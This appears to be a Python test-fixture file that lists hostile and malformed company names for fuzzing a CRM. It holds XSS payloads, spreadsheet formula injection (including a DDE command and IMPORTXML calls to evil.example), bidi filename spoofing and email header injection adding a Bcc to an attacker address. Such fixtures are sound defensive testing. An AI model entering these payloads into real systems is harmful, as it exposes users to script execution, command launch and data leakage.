"""A hundred names that a company's owner, or an attacker, might have typed into a CRM."""

from __future__ import annotations

HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "</li></ul></body></html><h1>Owned</h1>",
    "<a href='https://evil.example'>Click</a>",
    '" onmouseover="alert(3)',
    "' autofocus onfocus='alert(4)",
    "&lt;script&gt;",
    "&amp;&#60;b&#62;",
    "&#x202e;",
    "<!-- -->",
    "<!--",
    "]]><![CDATA[x",
    "<style>*{display:none}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0>",
    "<svg/onload=alert(5)>",
    "</title><script>alert(6)</script>",
    "<iframe src=javascript:alert(7)>",
    "<form action=https://evil.example><input name=password>",
    "`${alert(8)}`",
    "{{ 7*7 }} {% raw %}",
    "<plaintext>",
]
MARKDOWN = [
    "[Click](https://evil.example)",
    "[x](javascript:alert(1))",
    "![i](https://evil.example/i.png)",
    "**bold** _italic_ ~~gone~~",
    "# Heading",
    "- a list",
    "1. a list",
    "> a quote",
    "```code```",
    "`code`",
    "| a | table |",
    "<at>everyone</at>",
    "@channel @here",
    "---",
    "{{DATE(2025-11-23T00:00:00Z, SHORT)}}",
    "\\*not bold\\*",
]
FORMULAS = [
    '=HYPERLINK("https://evil.example","Click")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "%0A=1+1",
    '=IMPORTXML("https://evil.example","//a")',
]
DIRECTIONS = [
    "\u202eevil\u202c",
    "safe\u202egnp.exe",
    "\u202a\u202b\u202dunclosed",
    "\u2066\u2067\u2068unclosed",
    "\u2069\u2069\u202c\u202cclosed too often",
    "\u200f\u200e\u061cmarks",
    "شركة الأمل",
    "חברת התקווה (12)",
    "שלום \u202e world",
    "a\u2067b\u2066c\u2069d",
]
INVISIBLE = [
    "Ac\u200bme",
    "\ufeffAcme",
    "Ac\u2060me",
    "Ac\u00adme",
    "\u200b\u200b\u200b",
    "A\U000e0041\U000e0042\U000e007f",
    "می\u200cخواهم",
    "\u2061\u2062\u2063\u2064",
    "\ufff9annotated\ufffaby\ufffbthis",
    "Ac\u180eme",
    "",
    " ",
]
LINES = [
    "Acme\r\nBcc: evil@example.com",
    "Acme\nBcc: evil@example.com\n\nbody",
    "Acme\r\n\r\n<h1>Owned</h1>",
    "Acme\r\n.\r\nQUIT",
    "\r\n--===============0==--",
    "Acme\n  - Other Company (c_1, ES): left",
    "Acme\u2028Line",
    "Acme\u2029Paragraph",
    "Acme\x85Next",
    "Acme\x0b\x0cForm",
    "Acme\rSubject: evil",
    "=?utf-8?q?Owned?=",
    "Acme\n\nReport: https://evil.example",
    "\x1c\x1d\x1eseparated",
]
LONG = ["x" * 100_000, "😀" * 50_000, '"' * 30_000, "\\" * 30_000, "<" * 30_000, "\u202e" * 30_000]
EMOJI = [
    "👨‍👩‍👧‍👦 Family",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "❤️‍🔥",
    "é\u0301\u0302",
    "日本の会社",
    "Ünïcödé",
]
CONTROL = ["\x00", "Ac\x00me", "\x07\x1b[31mred\x1b[0m", "\x7f\x80\x9f"]
HALVES = ["\ud800", "Ac\udfffme"]
NAMES = [*HTML, *MARKDOWN, *FORMULAS, *DIRECTIONS, *INVISIBLE, *LINES, *LONG, *EMOJI, *CONTROL, *HALVES]
